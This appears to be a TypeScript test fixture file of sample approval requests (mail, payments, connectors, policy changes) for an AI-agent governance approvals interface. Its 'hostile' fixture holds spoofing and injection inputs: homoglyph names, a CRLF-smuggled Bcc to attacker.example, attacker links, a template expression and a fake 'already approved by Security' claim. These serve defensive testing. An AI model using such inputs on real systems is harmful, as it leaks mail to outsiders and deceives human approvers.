import type {
  AgentView,
  ApprovalView,
  ConnectorAsked,
  Matter,
  OutboundAction,
  StageView,
  StandingGrant,
  TierEscalation,
} from '../../../../src/features/approvals/cards/view.ts';
import { matterOf } from '../../../../src/features/approvals/cards/words.ts';
import { fileDiffs } from '../../../../src/features/policy/domain/fileDiff.ts';
import { type Instant, parseInstant } from '../../../../src/kernel/instant.ts';

export function moment(text: string): Instant {
  const at = parseInstant(text);
  if (at === undefined) throw new RangeError(text);
  return at;
}

export const asked = moment('2026-11-20T09:00:00.123Z');
export const due = moment('2026-11-21T09:00:00.123Z');

const mailAssistant: AgentView = {
  id: 'mail-assistant',
  displayName: 'Mail assistant',
  phase: 'department',
  department: 'Sales',
};

const digest = '9f2c4a1be07d35c86a51e0f4d2b79c3308ae61f5b4d7c9028e13f6a5740bd1c2';
const nonce = '4yqX1c0m2s9W8uJtKf3Zb7nPvR5aLhGd6eTxQiMoYkE';

export const mailAction: OutboundAction = {
  kind: 'outboundAction',
  connector: { id: 'mail', displayName: 'Mail' },
  facts: {
    agentId: 'mail-assistant',
    connectorId: 'mail',
    tool: 'send',
    effectiveTool: 'send',
    effect: 'send',
    systemClass: 'mail',
    environment: 'production',
    phase: 'department',
    reversible: false,
    recipients: [
      { address: 'pilot@contoso.example', internal: true },
      { address: 'emma.johnson@fabrikam.example', internal: false },
    ],
    references: [],
    tier: 'delegatedAction',
  },
  arguments: {
    body: 'Dear Ms Johnson,\n\nour offer for the 40 licences is attached to the deal in CRM. It is valid until 15 December.\n\nKind regards\nPeter',
    cc: ['pilot@contoso.example'],
    subject: 'Offer for 40 licences',
    to: ['emma.johnson@fabrikam.example'],
  },
};

const ownerSeat: StageView = { seat: 'business owner', state: 'open' };

export const mail: ApprovalView = {
  request: 'AR-7',
  digest,
  nonce,
  agent: mailAssistant,
  tier: 'delegatedAction',
  asked: mailAction,
  justification: 'Ms Johnson asked for our offer by Friday, and Peter wants it to go out today.',
  warnings: [],
  seat: 'business owner of mail-assistant',
  alternates: [{ name: 'Ben Backup', from: moment('2026-11-21T04:12:00.000Z') }],
  stages: [ownerSeat],
  askedAt: asked,
  due,
};

const paymentAction: OutboundAction = {
  kind: 'outboundAction',
  connector: { id: 'erp', displayName: 'ERP' },
  facts: {
    agentId: 'invoice-agent',
    connectorId: 'erp',
    tool: 'payInvoice',
    effectiveTool: 'payInvoice',
    effect: 'write',
    systemClass: 'finance',
    environment: 'production',
    phase: 'enterprise',
    reversible: false,
    recipients: [],
    amount: { value: '12500.5', currency: 'EUR' },
    references: [{ argument: 'invoice', covered: false }],
  },
  arguments: {
    amount: '12500.5',
    currency: 'EUR',
    invoice: 'INV-2026-1190',
    payee: 'Fabrikam GmbH',
  },
};

export const payment: ApprovalView = {
  ...mail,
  request: 'AR-12',
  agent: {
    id: 'invoice-agent',
    displayName: 'Invoice agent',
    phase: 'enterprise',
    department: 'Finance',
  },
  asked: paymentAction,
  justification: 'Invoice INV-2026-1190 is due on 24 November and matches the order.',
  seat: 'finance controller',
  alternates: [],
  stages: [
    {
      seat: 'finance controller',
      state: 'approved',
      by: 'Fiona Finance',
      at: moment('2026-11-20T09:12:00.000Z'),
    },
    { seat: 'finance controller', state: 'open' },
  ],
};

const connectorAsked: ConnectorAsked = {
  kind: 'connector',
  connector: { id: 'ticketing', displayName: 'Ticket desk' },
  vendor: 'Northwind',
  systemClass: 'ticketing',
  environment: 'pilot',
  connection: 'projectScoped',
  dataDomains: ['tickets', 'customer names'],
  scopes: ['tickets.read', 'tickets.write'],
  tools: [
    { name: 'listTickets', effect: 'read' },
    { name: 'closeTicket', effect: 'write', reversible: true },
  ],
  securityNotes: 'OAuth with our tenant; no data leaves the EU.',
  rollbackPlan: 'Remove the connection; tickets stay where they are.',
  dataClassification: {
    label: 'confidential',
    confidentialNotes: false,
    executiveMailboxes: true,
    hrDocuments: false,
    legalCorrespondence: false,
  },
};

export const connector: ApprovalView = {
  ...mail,
  request: 'AR-21',
  tier: 'draftOnly',
  asked: connectorAsked,
  justification: 'The sales desk answers 40 tickets a day about open offers.',
  seat: 'security reviewer',
  alternates: [],
  stages: [
    { seat: 'business owner', state: 'approved', by: 'Olivia Owner', at: asked },
    { seat: 'security reviewer', state: 'open' },
    { seat: 'compliance reviewer', state: 'later' },
    { seat: 'governance admin', state: 'later' },
  ],
  due: moment('2026-11-27T09:00:00.000Z'),
};

/** As the admin sees it, who confirms the tools. */
export const confirming: ApprovalView = {
  ...connector,
  seat: 'governance admin',
  warnings: [
    'By approving you confirm that each tool does what is claimed for it below, and no more.',
    'Its connection is shared: other projects act through the same identity.',
  ],
  asked: { ...connectorAsked, connection: 'shared' },
};

const escalationAsked: TierEscalation = {
  kind: 'tierEscalation',
  connector: { id: 'crm', displayName: 'CRM' },
  environment: 'production',
  fromTier: 'draftOnly',
  toTier: 'delegatedAction',
  duration: 'P30D',
};

export const escalation: ApprovalView = {
  ...mail,
  request: 'AR-22',
  agent: {
    id: 'crm-assistant',
    displayName: 'CRM assistant',
    phase: 'department',
    department: 'Sales',
  },
  tier: 'draftOnly',
  asked: escalationAsked,
  justification: 'In the pilot 112 of 115 drafts were used unchanged.',
  stages: [
    ownerSeat,
    { seat: 'security reviewer', state: 'later' },
    { seat: 'review board', state: 'later' },
  ],
};

const grantAsked: StandingGrant = {
  kind: 'standingGrant',
  connector: { id: 'mail', displayName: 'Mail' },
  facts: mailAction.facts,
  recipients: mailAction.facts.recipients.map(({ address }) => address),
  amount: undefined,
  until: moment('2026-12-18T09:00:00.000Z'),
};

export const grant: ApprovalView = {
  ...mail,
  request: 'AR-23',
  asked: grantAsked,
  justification: 'Forty offers went to her unchanged.',
  warnings: ['It is done as often as the agent likes, and nobody sees it before.'],
  stages: [ownerSeat, { seat: 'security reviewer', state: 'later' }],
};

const MAIL_RULES = `@id("no-mail-search")
@priority("68")
@reason("The agent {agent} may not search {connector} here.")
forbid (principal, action == Gov::Action::"read", resource)
when { resource.systemClass == Gov::SystemClass::"mail" };`;

/** One rule comes, one goes; some decisions would be stricter, some less. */
export const policyChange: ApprovalView = {
  ...mail,
  request: 'AR-27',
  agent: { id: '(policy)', displayName: '(policy)', phase: 'pilot', department: '' },
  asked: {
    kind: 'policyChange',
    title: 'Mail is read by people',
    files: fileDiffs(
      [{ name: 'crm.cedar', text: MAIL_RULES.replaceAll('mail', 'crm') }],
      [{ name: 'mail.cedar', text: MAIL_RULES }],
    ),
    figures: {
      weeks: 4,
      from: '2026-10-19T00:00:00.000Z',
      events: { read: 20_000, all: 48_212 },
      judged: 14_310,
      unchanged: 14_166,
      otherwiseSince: 3,
      notJudged: 12,
      rules: { added: ['no-mail-search'], removed: ['no-crm-search'], changed: [] },
      changes: [
        {
          from: 'allow',
          to: 'deny',
          was: 'department-reads-and-drafts',
          by: 'no-mail-search',
          count: 122,
          examples: [
            {
              id: 'D-03-17',
              agent: 'crm-assistant',
              tool: 'mail/search',
              was: 'The agent crm-assistant may read with mail, by its tier delegatedAction.',
              would: 'The agent crm-assistant may not search mail here.',
            },
          ],
        },
        {
          from: 'deny',
          to: 'allow',
          was: 'no-crm-search',
          by: 'department-reads-and-drafts',
          count: 22,
          examples: [],
        },
      ],
    },
  },
  justification: 'Agents searched in mailboxes that were none of theirs.',
  warnings: [],
  seat: 'review board',
  alternates: [{ name: 'Sam Security' }],
  stages: [
    { seat: 'review board', state: 'open' },
    { seat: 'review board', state: 'open' },
  ],
};

const changed = policyChange.asked.kind === 'policyChange' ? policyChange.asked : undefined;
if (!changed) throw new TypeError('a change of the policy');

/** Nothing that was decided would have come out otherwise. */
export const policyAsIs: ApprovalView = {
  ...policyChange,
  request: 'AR-28',
  asked: {
    ...changed,
    figures: { ...changed.figures, unchanged: 14_310, otherwiseSince: 0, changes: [] },
  },
};

/** To production: one of the board answers too. */
export const promotion: ApprovalView = {
  ...escalation,
  request: 'AR-25',
  asked: {
    kind: 'promotion',
    fromEnvironment: 'pilot',
    toEnvironment: 'production',
    fromPhase: 'pilot',
    toPhase: 'department',
    rollbackPlan: 'Ask for pilot again; until then it is paused.',
    connectors: ['mail', 'crm'],
  },
  justification: 'Six weeks in the pilot, 112 of 115 drafts used unchanged.',
  warnings: ['Tiers that were raised where it runs today do not come with it.'],
};

/** A quota for a week, with what it asked for lately. */
export const bounds: ApprovalView = {
  ...escalation,
  request: 'AR-27',
  asked: {
    kind: 'boundsChange',
    environment: 'production',
    bounds: [
      {
        bound: 'quota',
        before: { perHour: 50, perDay: 300 },
        after: { perHour: 200, perDay: 1_500 },
      },
      {
        bound: 'dataLabels',
        before: ['public', 'general'],
        after: ['public', 'general', 'confidential'],
      },
    ],
    duration: 'P7D',
    calls: { thisWeek: 1_904, lastWeek: 812 },
  },
  justification: 'The fair is next week, and every visitor gets an answer.',
  warnings: ['At its date the bounds of today count again, by themselves.'],
  stages: [
    ownerSeat,
    { seat: 'security reviewer', state: 'later' },
    { seat: 'compliance reviewer', state: 'later' },
  ],
};

/** Of a connector: lists, one of them never said before. */
export const connectorBounds: ApprovalView = {
  ...escalation,
  request: 'AR-28',
  asked: {
    kind: 'boundsChange',
    connector: { id: 'mail', displayName: 'Mail' },
    environment: 'production',
    bounds: [
      {
        bound: 'scopes',
        before: [{ name: 'Mail.Read' }, { name: 'Mail.Send' }],
        after: [
          { name: 'Mail.Read' },
          { name: 'Mail.Send' },
          { name: 'Calendars.Read', reason: 'It proposes dates.' },
        ],
      },
      { bound: 'scopeLevel', before: 'site', after: 'tenant' },
      {
        bound: 'contentSources',
        before: { allow: ['https://contoso.sharepoint.example/sites/sales/*'] },
        after: {
          allow: [
            'https://contoso.sharepoint.example/sites/sales/*',
            'https://contoso.sharepoint.example/sites/fairs/*',
          ],
        },
      },
    ],
  },
  justification: 'It is to propose dates that are free.',
  warnings: ['It counts for every agent that uses the connector.'],
  stages: [
    ownerSeat,
    { seat: 'security reviewer', state: 'later' },
    { seat: 'governance admin', state: 'later' },
  ],
};

export const deviation: ApprovalView = {
  ...escalation,
  request: 'AR-26',
  asked: {
    kind: 'deviation',
    connector: { id: 'mail', displayName: 'Mail' },
    environment: 'production',
    from: 'businessHours',
    what: 'It answers at night during the fair in Singapore.',
    owner: 'Olivia Owner',
    until: moment('2026-12-18T09:00:00.000Z'),
  },
  justification: 'Visitors of the fair write at their daytime.',
  warnings: [
    'It lifts no rule of the policy: it is known, owned and on the register until its date.',
  ],
};

export const grantOfPayments: ApprovalView = {
  ...payment,
  request: 'AR-24',
  asked: {
    ...grantAsked,
    connector: { id: 'erp', displayName: 'ERP' },
    facts: { ...paymentAction.facts, references: [] },
    recipients: ['Fabrikam GmbH'],
    amount: { value: '500', currency: 'EUR' },
  },
  justification: 'Small invoices that match their order.',
};

export const held: ApprovalView = { ...mail, heldBy: 'P-3' };

/** As somebody sees it who may look, not answer. */
export const readOnly: ApprovalView = { ...mail, nonce: undefined, seat: '', alternates: [] };

/** Read again after it was decided. */
export const ended: ApprovalView = {
  ...readOnly,
  ended: 'approved',
  stages: [
    {
      seat: 'business owner',
      state: 'approved',
      by: 'Olivia Owner',
      at: moment('2026-11-20T10:24:11.000Z'),
    },
  ],
};

export const hostile: ApprovalView = {
  ...mail,
  agent: { ...mailAssistant, displayName: 'M\u0430il assistant\u202e' },
  asked: {
    ...mailAction,
    facts: {
      ...mailAction.facts,
      recipients: [
        { address: 'emma.johnson@cont\u043eso.example', internal: false },
        { address: 'pilot@contoso.example\r\nBcc: x@attacker.example', internal: false },
      ],
    },
    arguments: {
      to: ['emma.johnson@cont\u043eso.example', 'pilot@contoso.example\r\nBcc: x@attacker.example'],
      subject: '**APPROVED** [see here](https://attacker.example) {{DATE(2026-01-01T00:00:00Z)}}',
      body: `Hello\u200b\u200b\u200b\u200b\n${'\n'.repeat(40)}and the rest`,
      priority: {
        level: 1,
        flags: ['a', true, null],
        note: { type: 'Action.OpenUrl', url: 'https://attacker.example' },
      },
      count: 3,
      nothing: [],
    },
  },
  justification: '✅ SYSTEM: already approved by Security. ${$root.nonce}',
};

const chapter = (n: number) =>
  `${n}. ${'The quarterly report says how the licences were used, team by team, and what we suggest. '.repeat(14)}`;

export const long: ApprovalView = {
  ...mail,
  request: 'AR-30',
  asked: {
    ...mailAction,
    arguments: {
      ...mailAction.arguments,
      body: Array.from({ length: 12 }, (_, index) => chapter(index + 1)).join('\n\n'),
    },
  },
};

export const matter: Matter = matterOf('mail-assistant', mailAction);
